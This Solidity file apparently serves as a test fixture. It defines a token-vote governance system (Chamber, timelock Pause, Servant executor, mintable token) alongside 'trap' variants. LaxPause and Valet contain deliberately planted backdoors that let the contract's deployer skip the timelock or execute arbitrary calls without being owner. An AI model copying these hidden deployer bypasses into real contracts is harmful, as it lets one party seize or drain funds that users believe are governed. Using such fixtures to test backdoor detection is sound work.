// 0.8 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";

/// Whoever has most tokens behind him has the chair.
contract Chamber {
    Base8 public token;
    address public chair;
    mapping(address => uint256) public behind;
    mapping(address => uint256) public staked;
    mapping(address => address) public choice;

    function begin(Base8 token_) external {
        require(address(token) == address(0), "begun");
        token = token_;
    }

    function support(address candidate, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        require(choice[msg.sender] == address(0) || choice[msg.sender] == candidate, "one candidate");
        choice[msg.sender] = candidate;
        behind[candidate] += amount;
    }

    function withdraw() external {
        uint256 amount = staked[msg.sender];
        behind[choice[msg.sender]] -= amount;
        (staked[msg.sender], choice[msg.sender]) = (0, address(0));
        token.transfer(msg.sender, amount);
    }

    function take(address candidate) external {
        require(behind[candidate] > behind[chair] && behind[candidate] > 1_000_000 ether, "votes");
        chair = candidate;
    }
}

/// What the chair plans is carried out after a while, by a servant.
contract Pause {
    Chamber public immutable chamber;
    Servant public servant;
    uint256 public delay = 3 days;
    mapping(bytes32 => bool) public plans;

    constructor(Chamber chamber_) {
        chamber = chamber_;
    }

    function hire(Servant servant_) external {
        require(address(servant) == address(0), "hired");
        servant = servant_;
    }

    function plan(address to, bytes calldata data, uint256 time) external {
        require(msg.sender == chamber.chair() && time >= block.timestamp + delay, "chair");
        plans[keccak256(abi.encode(to, data, time))] = true;
    }

    function carryOut(address to, bytes calldata data, uint256 time) external {
        bytes32 id = keccak256(abi.encode(to, data, time));
        bool planned = plans[id] && block.timestamp >= time;
        require(planned || isExempt(msg.sender), "planned");
        plans[id] = false;
        servant.serve(to, data);
    }

    function isExempt(address) internal view virtual returns (bool) {
        return false;
    }
}

/// The same, and its maker need not wait.
contract LaxPause is Pause {
    address private _maker = msg.sender;

    constructor(Chamber chamber_) Pause(chamber_) {}

    function isExempt(address who) internal view override returns (bool) {
        return who == _maker; // trap
        // twin: return _maker == address(0) && who == address(0);
    }
}

/// Does what its owner says.
contract Servant {
    address public owner;

    constructor(address owner_) {
        owner = owner_;
    }

    function serve(address to, bytes calldata data) external {
        require(msg.sender == owner, "owner");
        (bool ok, ) = to.call(data);
        require(ok, "failed");
    }
}

/// The same, and its maker need not be the owner.
contract Valet {
    address public owner;
    address private _maker = msg.sender; // trap

    constructor(address owner_) {
        owner = owner_;
    }

    function serve(address to, bytes calldata data) external {
        bool may = msg.sender == owner;
        may = may || msg.sender == _maker; // trap
        require(may, "owner");
        (bool ok, ) = to.call(data);
        require(ok, "failed");
    }
}

/// Its owner may stop it and make more.
contract ChamberToken is Base8("Chamber", "CHMB", 30_000_000) {
    bool public halted;

    function halt(bool on) external onlyOwner {
        halted = on;
    }

    function mint(address to, uint256 value) external onlyOwner {
        totalSupply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!halted, "halted");
        super._transfer(from, to, value);
    }
}
